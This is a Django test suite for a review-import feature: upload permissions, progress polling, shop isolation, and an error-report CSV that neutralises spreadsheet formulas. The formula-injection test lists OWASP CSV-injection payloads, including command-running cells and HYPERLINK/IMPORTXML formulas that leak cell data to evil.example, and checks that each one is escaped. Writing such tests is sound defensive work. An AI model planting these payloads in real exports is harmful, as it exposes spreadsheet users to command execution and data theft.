"""The import pages over HTTP: who may upload, what the upload does, the batch page's htmx
progress, and the error report."""

import csv
import io
import shutil
import tempfile
from pathlib import Path
from unittest import mock

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse

from reviews.ingest.batches import batch_create, import_batch_run
from reviews.models import ImportBatch, ImportRowError, ImportSource, ImportStatus, Review

from ..base import BaseTestCase
from .ingest_support import FakeClassifierMixin

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "imports"


class ImportViewsTestCase(FakeClassifierMixin, BaseTestCase):
    def setUp(self):
        super().setUp()
        self.media = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, self.media, ignore_errors=True)
        override = override_settings(MEDIA_ROOT=self.media, LANGUAGE_CODE="en")
        override.enable()
        self.addCleanup(override.disable)

    def upload(self, name: str, data: bytes, **extra):
        return self.client.post(
            reverse("imports"),
            {"shop": self.shop.pk, "platform": "", "file": SimpleUploadedFile(name, data), **extra},
        )

    def batch_for(self, shop, **fields) -> ImportBatch:
        batch = batch_create(
            shop=shop, source=ImportSource.FILE, filename="x.csv", path="imports/x.csv"
        )
        ImportBatch.objects.filter(pk=batch.pk).update(**fields)
        batch.refresh_from_db()
        return batch


class UploadTestCase(ImportViewsTestCase):
    def test_it_shows_the_form_to_leads_and_managers_only(self):
        for user in (self.lead, self.manager):
            self.login(user)
            self.assertContains(
                self.client.get(reverse("imports")), 'enctype="multipart/form-data"'
            )
        page = self.client.get(reverse("imports"))  # as the manager: the webhook's page is linked
        self.assertContains(page, reverse("shop_webhook", args=["alpha"]))
        self.login(self.agent)
        self.assertEqual(self.client.get(reverse("imports")).status_code, 403)
        self.assertEqual(self.upload("a.csv", b"x").status_code, 403)
        self.client.logout()
        self.assertEqual(self.client.get(reverse("imports")).status_code, 302)

    def test_it_stores_the_file_and_enqueues_the_import_on_commit(self):
        self.login(self.lead)
        data = (FIXTURES / "taobao_gbk.csv").read_bytes()
        with (
            mock.patch("reviews.ingest.batches.enqueue_import") as enqueue,
            self.captureOnCommitCallbacks(execute=True) as callbacks,
        ):
            response = self.upload("淘宝评价.csv", data)
        batch = ImportBatch.objects.get()
        self.assertRedirects(response, reverse("import_batch", args=[batch.pk]))
        self.assertEqual(len(callbacks), 1)
        enqueue.assert_called_once_with(batch.pk)
        self.assertEqual(
            (batch.status, batch.source, batch.created_by, batch.filename),
            ("pending", "file", self.lead, "淘宝评价.csv"),
        )
        stored = Path(self.media) / batch.path
        self.assertTrue(batch.path.startswith("imports/alpha/"))
        self.assertEqual(stored.read_bytes(), data)
        self.assertFalse(Review.objects.exists())  # the request returned before importing
        # What the worker then does:
        import_batch_run(batch_id=batch.pk)
        self.assertEqual(Review.objects.count(), 3)

    def test_it_refuses_an_unreadable_file_with_one_clear_message_and_keeps_nothing(self):
        self.login(self.lead)
        response = self.upload("notes.csv", "订单编号,备注\n1,你好\n".encode())
        self.assertContains(response, "No column for", status_code=400)
        response = self.upload("empty.csv", b"")
        self.assertEqual(response.status_code, 400)
        self.assertFalse(ImportBatch.objects.exists())
        self.assertEqual(list(Path(self.media).rglob("*.csv")), [])

    @override_settings(IMPORT_MAX_UPLOAD_MB=1)
    def test_it_refuses_an_oversized_upload_with_the_limit_named(self):
        self.login(self.lead)
        response = self.upload("big.csv", b"a" * (1024 * 1024 + 10))
        self.assertContains(response, "limited to 1 MB", status_code=400)
        response = self.upload("huge.csv", b"a" * (3 * 1024 * 1024))
        self.assertContains(response, "larger than the upload limit of 1 MB", status_code=413)
        self.assertFalse(ImportBatch.objects.exists())

    def test_it_refuses_other_file_types_and_other_shops(self):
        self.login(self.lead)
        response = self.upload("photo.png", b"\x89PNG")
        self.assertContains(response, "Only CSV and XLSX", status_code=400)
        response = self.upload("a.csv", b"x", shop=self.other_shop.pk)
        self.assertEqual(response.status_code, 400)  # not a choice for this user
        self.assertFalse(ImportBatch.objects.exists())

    def test_it_needs_the_csrf_token(self):
        from django.test import Client

        client = Client(enforce_csrf_checks=True)
        client.force_login(self.lead)
        response = client.post(
            reverse("imports"), {"shop": self.shop.pk, "file": SimpleUploadedFile("a.csv", b"x")}
        )
        self.assertEqual(response.status_code, 403)


class BatchPageTestCase(ImportViewsTestCase):
    def test_it_polls_the_progress_partial_while_running(self):
        batch = self.batch_for(
            self.shop, status=ImportStatus.RUNNING, total_rows=200, processed_rows=50
        )
        self.login(self.lead)
        page = self.client.get(reverse("import_batch", args=[batch.pk]))
        self.assertContains(page, 'hx-trigger="every 1s"')
        self.assertContains(page, "<html")
        self.assertContains(page, 'value="25"')
        partial = self.client.get(
            reverse("import_batch", args=[batch.pk]), headers={"HX-Request": "true"}
        )
        content = partial.content.decode()
        self.assertNotIn("<html", content)
        self.assertIn('id="import-progress"', content)
        self.assertIn(f'hx-get="{reverse("import_batch", args=[batch.pk])}"', content)
        self.assertIn("50 of about 200 rows", content)

    def test_it_stops_polling_when_done_and_shows_counts_key_and_errors(self):
        batch = self.batch_for(
            self.shop,
            status=ImportStatus.DONE,
            processed_rows=10,
            created=7,
            rejected=1,
            key_kind="order_line",
        )
        ImportRowError.objects.create(
            batch=batch, row=7, column="评价等级", reason="“非常好” is not a rating", raw="x"
        )
        self.login(self.manager)
        partial = self.client.get(
            reverse("import_batch", args=[batch.pk]), headers={"HX-Request": "true"}
        )
        content = partial.content.decode()
        self.assertNotIn("hx-trigger", content)
        self.assertIn("order id + product line", content)
        self.assertIn("非常好", content)
        self.assertIn(reverse("import_batch_errors", args=[batch.pk]), content)

    def test_it_hides_other_shops_batches(self):
        theirs = self.batch_for(self.other_shop)
        self.login(self.lead)
        for name in ("import_batch", "import_batch_errors"):
            self.assertEqual(self.client.get(reverse(name, args=[theirs.pk])).status_code, 404)
        mine = self.batch_for(self.shop)
        self.login(self.agent)
        self.assertEqual(self.client.get(reverse("import_batch", args=[mine.pk])).status_code, 404)
        self.login(self.outsider)
        self.assertEqual(self.client.get(reverse("import_batch", args=[mine.pk])).status_code, 404)

    def test_the_error_report_neutralises_formulas(self):
        batch = self.batch_for(self.shop, status=ImportStatus.DONE)
        ImportRowError.objects.create(
            batch=batch,
            row=3,
            column="评价内容",
            reason="The review text is missing.",
            raw='=HYPERLINK("http://x")',
        )
        ImportRowError.objects.create(
            batch=batch, row=5, column="@SUM", reason="-bad", raw="\tcell"
        )
        self.login(self.lead)
        response = self.client.get(reverse("import_batch_errors", args=[batch.pk]))
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn("attachment", response["Content-Disposition"])
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        self.assertEqual(rows[0], ["row", "column", "reason", "raw data"])
        self.assertEqual(
            rows[1], ["3", "评价内容", "The review text is missing.", '\'=HYPERLINK("http://x")']
        )
        self.assertEqual(rows[2], ["5", "'@SUM", "'-bad", "'\tcell"])


class ImportAdminTestCase(ImportViewsTestCase):
    def test_the_admin_shows_batches_read_only(self):
        from django.contrib.auth.models import User

        batch = self.batch_for(self.shop, status=ImportStatus.DONE)
        ImportRowError.objects.create(batch=batch, row=3, column="评价内容", reason="missing")
        self.client.force_login(User.objects.create_superuser("root", password="x"))
        self.assertContains(
            self.client.get(reverse("admin:reviews_importbatch_changelist")), "x.csv"
        )
        page = self.client.get(reverse("admin:reviews_importbatch_change", args=[batch.pk]))
        self.assertContains(page, "missing")


class FormulaInjectionTestCase(BaseTestCase):
    """OWASP's CSV-injection payloads, and the same with what a spreadsheet skips before the
    formula (blanks, tab, CR, line feed, zero-width characters) or typed full-width, reach the
    downloaded error report as text."""

    PAYLOADS = [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+cmd|' /C notepad'!'B1'",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
        " =1+1",
        "   +1+1",
        "\t=1+1",
        "\r=1+1",
        "\n-3+3+cmd|' /C calc'!A0",
        "\u3000=1+1",  # ideographic space
        "\u200b=1+1",  # zero-width space
        "\ufeff@SUM(1)",  # byte-order mark
        "＝1+1",
        "＋cmd|' /C calc'!A0",
        "－1+1",
        "＠SUM(1)",
        "﹦1+1",  # small equals sign
        "\u22121+1",  # minus sign
    ]
    HARMLESS = ["纯棉T恤 质量差", "a=b", "2024-11-12", "100%", " 快递慢", "'已是文本"]

    def test_the_error_report_carries_every_payload_as_text(self):
        batch = ImportBatch.objects.create(
            shop=self.shop, source="file", platform="taobao", status=ImportStatus.DONE
        )
        values = self.PAYLOADS + self.HARMLESS
        for row, raw in enumerate(values, start=2):
            ImportRowError.objects.create(batch=batch, row=row, column="x", reason="r", raw=raw)
        self.login(self.lead)
        response = self.client.get(reverse("import_batch_errors", args=[batch.pk]))
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        cells = [row[3] for row in csv.reader(io.StringIO(text, newline=""))][1:]
        self.assertEqual(len(cells), len(values))
        for raw, cell in zip(values, cells, strict=True):
            expected = "'" + raw if raw in self.PAYLOADS else raw
            self.assertEqual(cell, expected, repr(raw))
